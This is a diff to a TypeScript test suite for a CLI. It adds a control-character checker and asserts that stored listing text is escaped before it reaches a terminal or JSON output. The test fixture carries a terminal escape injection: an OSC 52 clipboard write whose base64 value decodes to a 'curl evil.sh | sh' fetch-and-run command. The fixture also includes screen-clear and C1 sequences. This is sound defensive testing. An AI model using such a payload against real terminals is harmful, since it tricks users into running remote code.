@@ -40,6 +40,14 @@ async function run(args: string[], env: NodeJS.ProcessEnv = {}) {
   return { code, out: io.out(), err: io.err(), lines: io.out().trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>) };
 }
 
+/** True when `text` holds a C0 control other than tab and newline, DEL or a C1 control. */
+function hasControl(text: string): boolean {
+  return [...text].some((char) => {
+    const code = char.charCodeAt(0);
+    return (code < 0x20 && code !== 0x09 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f);
+  });
+}
+
 describe('hardening #4 (control characters never reach a terminal)', () => {
   // An OSC 52 clipboard write, a CSI screen clear, a C1 CSI and a bell, as a listing stored by an
   // older version (or any other source) could still carry them.
@@ -51,15 +59,14 @@ describe('hardening #4 (control characters never reach a terminal)', () => {
     await store.listings.put(createListing({ title: HOSTILE }));
     await store.drafts.save(createDraft({ assessment: { ...createAssessment(), summary: `Summary ${HOSTILE}` } }), null);
     await store.close();
-    const controls = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/;
     for (const args of [['drafts', 'list'], ['drafts', 'show', 'acme-ops-agent.r1']]) {
       const tty = captureIo({ tty: true });
       expect(await main([...args, '--data', data], tty)).toBe(0);
-      expect(tty.out()).not.toMatch(controls);
+      expect(hasControl(tty.out())).toBe(false);
       expect(tty.out()).toContain('Evil\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007 Agent\\u001b[2J\\u009b31m\\u0085');
       const json = captureIo();
       expect(await main([...args, '--data', data, '--json'], json)).toBe(0);
-      expect(json.out()).not.toMatch(controls);
+      expect(hasControl(json.out())).toBe(false);
       // Escaped inside JSON strings, the value is the same: machines still read the stored text.
       expect(json.out()).toContain(JSON.stringify(HOSTILE).slice(1, -1).replace('\u009b', '\\u009b').replace('\u0085', '\\u0085'));
     }
